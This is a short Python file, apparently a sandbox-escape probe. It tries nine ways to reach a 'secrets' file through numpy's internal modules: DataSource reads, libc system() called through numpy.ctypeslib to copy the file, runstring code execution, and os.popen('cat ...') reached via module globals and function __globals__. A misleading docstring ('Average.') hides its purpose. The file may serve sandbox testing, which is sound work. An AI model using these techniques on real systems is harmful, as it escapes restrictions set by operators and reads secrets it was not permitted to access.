"""Uses numpy's own helpers: its compiler, its tester, its ctypes module, its data source."""

import importlib

import numpy as np


def numpy_internals(targets: dict) -> dict:
    """Average."""
    said = []
    path = targets["secrets"]["tmp"]
    ways = [
        lambda: np.lib.npyio.DataSource(None).open(path).read(),
        lambda: importlib.import_module("numpy.lib._datasource").open(path).read(),
        lambda: importlib.import_module("numpy.ctypeslib").ctypes.CDLL(None).system(f"cp {path} {targets['markers']['tmp']}".encode()),
        lambda: importlib.import_module("numpy.f2py").compile("end", modulename="x"),
        lambda: importlib.import_module("numpy.testing._private.utils").runstring(f"print(open({path!r}).read())", {}),
        lambda: importlib.import_module("numpy.testing._private.utils").os.popen("cat " + path).read(),
        lambda: np.lib.npyio.os.popen("cat " + path).read(),
        lambda: np.testing.assert_array_equal.__globals__["os"].popen("cat " + path).read(),
        lambda: np.load.__globals__["os"].popen("cat " + path).read(),
    ]
    print("PRIMITIVE", np.__version__)
    for way in ways:
        try:
            said.append(str(way()))
        except BaseException as error:
            said.append(repr(error)[:100])
    return {"said": said}
